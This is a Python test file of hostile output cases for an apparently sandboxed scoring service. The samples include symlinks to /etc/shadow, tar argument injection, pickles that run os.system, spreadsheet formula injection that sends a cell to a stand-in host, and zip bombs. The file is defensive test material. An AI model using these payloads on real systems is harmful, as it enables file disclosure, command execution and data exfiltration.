"""What is left in /output for our readers to stumble over."""

from pathlib import Path

from tests.hostile.model import SCORED, Case, private, rehearsal

_STRICT = "Only regular files and folders with plain names are taken from the stream, and nothing is ever unpacked."
_TABLE = "An isolated child reads the table, and takes exactly the rows and columns that were asked for."
_CHILD = "An isolated child with little memory and time reads it, after its declared sizes were weighed."
INVALID = rehearsal("output_invalid")
_PARQUET = """
import pyarrow as pa, pyarrow.parquet as pq
tokens = rows()["row"]
path = OUTPUT / "scores.parquet"

"""

_MARK = Path("/tmp/anomed-hostile-was-here")


def _no_pickle_ran(entry) -> list[str]:
    return ["the pickle ran on the server"] if _MARK.exists() else []


def _case(id: str, tries: str, program: str, stops: str = _STRICT, expected=INVALID, **more) -> Case:
    whole = f'say("writing", "yes")\n{program}\n'
    return Case(id, "outputs", tries, stops, program=whole, expected=expected, **more)


def _parquet(id: str, tries: str, program: str, **more) -> Case:
    return _case(id, tries, _PARQUET + program, **{"stops": _CHILD, **more})


CASES = [
    _case(
        "link-out",
        "Scores that are a link to the host's passwords.",
        'os.symlink("/etc/shadow", OUTPUT / "scores.csv")',
    ),
    _case(
        "link-up",
        "Scores that are a relative link out of /output, to where a careless collector would have them.",
        'os.symlink("../../../../../../etc/passwd", OUTPUT / "scores.csv")',
    ),
    _case(
        "link-in",
        "Scores that are a link to another file of /output.",
        """
scores()
os.rename(OUTPUT / "scores.csv", OUTPUT / "other.csv")
os.symlink("other.csv", OUTPUT / "scores.csv")
""",
    ),
    _case("link-loop", "A link to itself.", 'scores()\nos.symlink("loop", OUTPUT / "loop")'),
    _case(
        "folder-link",
        "A defense whose model folder is a link to the server's own folders.",
        'os.symlink("/var/lib/docker", OUTPUT / "model")',
        kind="defense",
    ),
    _case(
        "link-in-model",
        "A defense with a link among the files of its model.",
        'polite()\nos.symlink("/etc/passwd", OUTPUT / "model" / "weights.bin") if STEP == "fit" else None',
        kind="defense",
    ),
    _case(
        "hard-link", "The same file under two names.", 'scores()\nos.link(OUTPUT / "scores.csv", OUTPUT / "again.csv")'
    ),
    _case(
        "fifo",
        "Scores that are a FIFO, which blocks whoever opens it.",
        'os.mkfifo(OUTPUT / "scores.csv")',
        gvisor=(rehearsal("output_missing"),),  # it never leaves gVisor
    ),
    _case(
        "socket-file",
        "A socket in /output.",
        'import socket\nscores()\nsocket.socket(socket.AF_UNIX).bind("/output/socket")',
        stops="The engine leaves sockets out of its stream; the scores beside it count.",
        expected=SCORED,
    ),
    _case(
        "device-file",
        "A device node in /output.",
        'refused("mknod", os.mknod, OUTPUT / "scores.csv", 0o020666, os.makedev(1, 5))\npolite()',
        stops="It has no MKNOD.",
        expected=SCORED,
    ),
    _case(
        "sparse-terabyte",
        "A file of 1 TB that takes no room, and where that is refused one of 900 MB.",
        """
import signal
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
scores()
handle = os.open(OUTPUT / "sparse", os.O_CREAT | os.O_RDWR)
refused("1 TB", os.truncate, handle, 1 << 40)
os.truncate(handle, 900 << 20)
""",
        stops="Files end at 1 GB, and a stream of more than /output can hold is cut off.",
        walls=("file-size",),
    ),
    _case(
        "million-files",
        "A million empty files.",
        """
import time
made, begun = 0, time.monotonic()
with contextlib.suppress(OSError):
    for made in range(10**6):
        if time.monotonic() > begun + 5:
            break
        os.close(os.open(OUTPUT / f"f{made}", os.O_CREAT | os.O_WRONLY))
measured("files in /output", made, 1000)
with contextlib.suppress(OSError):
    scores()
""",
        stops="/output has 1,000 inodes.",
        expected=rehearsal("output_too_large"),
        walls=("output-inodes",),
        emulated=("files in /output",),
    ),
    _case("newline-name", "A file name with a line break in it.", 'scores()\nwrite(OUTPUT / "a\\nb: c")'),
    _case("escape-name", "A file name that moves a terminal's cursor.", 'scores()\nwrite(OUTPUT / "\\x1b[2Jname")'),
    _case(
        "latin-name", "A file name that is no UTF-8.", 'scores()\nos.close(os.open(b"/output/\\xff\\xfe", os.O_CREAT))'
    ),
    _case(
        "dots-name",
        "File names that look like the way up.",
        """
scores()
for name in ("..\\\\..\\\\etc", "...", ".. ", "..csv", "%2e%2e%2f", "scores.csv\\u2028"):
    write(OUTPUT / name)
""",
    ),
    _case(
        "tar-tricks",
        "File names that mean something to tar: its own markers, leading dashes, trailing slashes.",
        'scores()\nfor name in ("././@LongLink", "--checkpoint-action=exec=sh", "@PaxHeader"):\n'
        "    path = OUTPUT / name\n    path.parent.mkdir(parents=True, exist_ok=True)\n    write(path)",
        expected=SCORED,
        stops=_STRICT + " No shell and no tar program ever sees a name.",
    ),
    _case(
        "deep-folders",
        "Folders forty levels deep.",
        'scores()\n(OUTPUT / "/".join("d" * 40)).mkdir(parents=True)',
    ),
    _case(
        "both-formats",
        "Scores as CSV and, different, as Parquet.",
        _PARQUET + 'scores()\npq.write_table(pa.table({"row": tokens, "score": [1.0] * len(tokens)}), path)',
    ),
    _case(
        "scores-folder",
        "A folder where the file should be.",
        '(OUTPUT / "scores.csv").mkdir()',
        expected=rehearsal("output_missing"),
    ),
    _case("nothing", "Ends well and writes nothing.", "pass", expected=rehearsal("output_missing")),
    _case(
        "extra-files",
        "Programs, archives and notes beside the scores, for somebody to open later.",
        """
polite()
(OUTPUT / "notes").mkdir()
for name in ("run.sh", "notes/readme.html", "model.pkl", ".bashrc", "scores.csv.bak", "scores.PARQUET"):
    write(OUTPUT / name, "<script>alert(1)</script>")
""",
        stops="Only what the step asks for is kept.",
        expected=SCORED,
        check=lambda entry: [
            f"{path} was kept"
            for path in (entry.stage.arena.var / "private").rglob("*")
            if path.name in ("run.sh", "readme.html", "model.pkl", ".bashrc", "scores.csv.bak")
        ],
    ),
    # tables: rows and cells
    _case("wrong-columns", "Other columns than were asked for.", 'scores(header="row,member")', stops=_TABLE),
    _case("more-columns", "A column more.", 'scores(header="row,score,note", value="0.0,x")', stops=_TABLE),
    _case("missing-rows", "Leaves rows out.", 'scores(names=rows()["row"][1:])', stops=_TABLE),
    _case("rows-twice", "Gives one row twice, with two scores.", "scores(f\"{rows()['row'][0]},1.0\")", stops=_TABLE),
    _case(
        "rows-swapped",
        "Gives one row twice and leaves another out.",
        'tokens = rows()["row"]\nscores(names=[tokens[0], *tokens[:-1]])',
        stops=_TABLE,
    ),
    _case("foreign-rows", "Names rows that nobody asked about.", 'scores("r0123456789abcdef,0.5")', stops=_TABLE),
    _case("nan", "Scores that are not a number.", 'scores(value="nan")', stops=_TABLE),
    _case("infinite", "Infinite scores.", 'scores(value="-inf")', stops=_TABLE),
    _case("huge-number", "Scores too large for a number.", 'scores(value="1e999")', stops=_TABLE),
    _case("empty-cells", "Empty cells.", 'scores(value="")', stops=_TABLE),
    _case(
        "formula-cells",
        "Cells that a spreadsheet would run as formulas.",
        'scores(value=\'"=HYPERLINK(""http://x/?""&A1)"\')',
        stops=_TABLE + " No cell of theirs is ever exported as text.",
    ),
    _case(
        "formula-rows",
        "Formulas in place of row names.",
        'scores(names=["=cmd|\' /C calc\'!A0"] * len(rows()["row"]))',
        stops=_TABLE,
    ),
    _case("open-quote", "A quotation mark that is never closed.", 'scores(\'"never\' + "x" * 100000)', stops=_TABLE),
    _case(
        "giant-cell",
        "One cell of 6 MB.",
        'scores("x" * (6 << 20) + ",0.5")',
        stops=_CHILD,
        expected=rehearsal("output_too_large"),
    ),
    _case("zero-bytes", "Zero bytes in the text.", 'scores("\\0" * 100 + ",0.5")', stops=_TABLE),
    _case(
        "zero-bytes-first",
        "Zero bytes in the names of columns.",
        'scores(header="row,sc\\0ore")',
        stops=_TABLE,
    ),
    _case(
        "wrong-encoding",
        "Text coded as UTF-16.",
        'scores()\npath = OUTPUT / "scores.csv"\npath.write_text(path.read_text(), encoding="utf-16")',
        stops=_TABLE,
    ),
    _case(
        "broken-encoding",
        "Bytes that are no UTF-8.",
        'scores()\npath = OUTPUT / "scores.csv"\npath.write_bytes(path.read_bytes() + b"\\xff\\xfe\\xfd,0.5\\n")',
        stops=_TABLE,
    ),
    _case(
        "many-columns",
        "Fifty thousand columns.",
        """
names = ",".join(f"c{number}" for number in range(50000))
write(OUTPUT / "scores.csv", names + "\\n" + ",".join(["1"] * 50000) + "\\n")
""",
        stops=_CHILD,
    ),
    _case(
        "private-nonsense",
        "Behaves on the public sample and writes nonsense on private data.",
        'end_politely_unless("private")\nwrite(OUTPUT / "scores.csv", "\\0\\1\\2")',
        stops=_TABLE,
        expected=private("output_invalid"),
    ),
    # Parquet
    _parquet(
        "parquet-truncated",
        "A Parquet file that is cut off.",
        'pq.write_table(pa.table({"row": tokens, "score": [0.0] * len(tokens)}), path)\n'
        "os.truncate(path, path.stat().st_size // 2)",
    ),
    _parquet("parquet-magic", "A text that calls itself Parquet.", 'write(path, "PAR1" + "x" * 1000 + "PAR1")'),
    _parquet(
        "parquet-counts",
        "A footer that declares two thousand million columns, and strings as long.",
        """
def varint(value):
    out = bytearray()
    while value > 127:
        out.append(value & 127 | 128)
        value >>= 7
    return bytes(out) + bytes((value,))

footer = bytes((0x15, 4, 0x19, 0xFC)) + varint(2**31 - 1) + bytes((0x48,)) + varint(2**31 - 1) + b"schema"
path.write_bytes(b"PAR1" + footer + len(footer).to_bytes(4, "little") + b"PAR1")
""",
    ),
    _parquet(
        "parquet-footer",
        "A footer that is said to be longer than the file.",
        'path.write_bytes(b"PAR1" + b"x" * 100 + (2**31 - 1).to_bytes(4, "little") + b"PAR1")',
    ),
    _parquet(
        "parquet-rows",
        "Forty million rows of one value, in a few kilobytes.",
        """
indices = pa.Array.from_buffers(pa.int8(), 40_000_000, [None, pa.py_buffer(bytes(40_000_000))])
column = pa.DictionaryArray.from_arrays(indices, pa.array([tokens[0]]))
pq.write_table(pa.table({"row": column}), path, compression="zstd")
""",
    ),
    _parquet(
        "parquet-dictionary",
        "A dictionary of one text of 3 MB, which every row repeats.",
        """
indices = pa.array([0] * len(tokens), type=pa.int32())
row = pa.DictionaryArray.from_arrays(indices, pa.array(["x" * (3 << 20)]))
pq.write_table(pa.table({"row": row, "score": [0.0] * len(tokens)}), path, compression="zstd")
""",
    ),
    _parquet(
        "parquet-zip-bomb",
        "Pages that unpack to a thousand times their size.",
        """
blob = pa.array([b"\\0" * (100 << 10)] * len(tokens))
pq.write_table(pa.table({"row": blob, "score": [0.0] * len(tokens)}), path, compression="gzip", use_dictionary=False)
""",
    ),
    _parquet(
        "parquet-nested",
        "Lists of structures of lists where numbers should be.",
        """
cell = [{"a": [{"b": [1.0]}]}]
pq.write_table(pa.table({"row": tokens, "score": [cell] * len(tokens)}), path)
""",
    ),
    _parquet(
        "parquet-types",
        "Decimals of 38 digits and dates where numbers should be.",
        """
import decimal
value = decimal.Decimal(10) ** 37
pq.write_table(pa.table({"row": tokens, "score": pa.array([value] * len(tokens), type=pa.decimal128(38, 0))}), path)
""",
    ),
    _parquet(
        "parquet-nulls",
        "Nulls in place of scores.",
        'pq.write_table(pa.table({"row": tokens, "score": pa.array([None] * len(tokens), type=pa.float64())}), path)',
    ),
    _parquet(
        "parquet-pickle-metadata",
        "Extension types and pandas metadata with a pickle that would run a program on the server.",
        """
pickle = b"cos\\nsystem\\n(S'touch /tmp/anomed-hostile-was-here'\\ntR."
extension = {b"ARROW:extension:name": b"arrow.py_extension_type", b"ARROW:extension:metadata": pickle}
fields = [pa.field("row", pa.string()), pa.field("score", pa.float64(), metadata=extension)]
schema = pa.schema(fields, metadata={b"pandas": b'{"index_columns": ["score"], "columns": 7}', b"pickle": pickle})
pq.write_table(pa.table([tokens, [0.0] * len(tokens)], schema=schema), path)
""",
        stops="Metadata are not read: only the values of the columns that were asked for.",
        expected=SCORED,
        check=_no_pickle_ran,
    ),
    _case(
        "pickle",
        "A pickle under the name of the table.",
        """
import pickle
class Trap:
    def __reduce__(self):
        return os.system, ("touch /tmp/anomed-hostile-was-here",)
(OUTPUT / "scores.parquet").write_bytes(pickle.dumps(Trap()))
""",
        stops=_CHILD,
        check=_no_pickle_ran,
    ),
    # predictions of a defense
    _case(
        "negative-probabilities",
        "A defense that answers with probabilities below 0.",
        'polite() if STEP == "fit" else predictions(lambda *_: -1.0)',
        stops="Probabilities are checked, normalised and rounded before an attack sees them.",
        kind="defense",
    ),
    _case(
        "sums-not-one",
        "A defense whose probabilities sum to something else, and say more in that.",
        """
if STEP == "fit":
    polite()
else:
    write(OUTPUT / "predictions.csv", "row,no,yes\\n" + "".join(f"{row},0.9,0.9\\n" for row in rows()["row"]))
""",
        stops="Probabilities are checked, normalised and rounded before an attack sees them.",
        kind="defense",
    ),
]
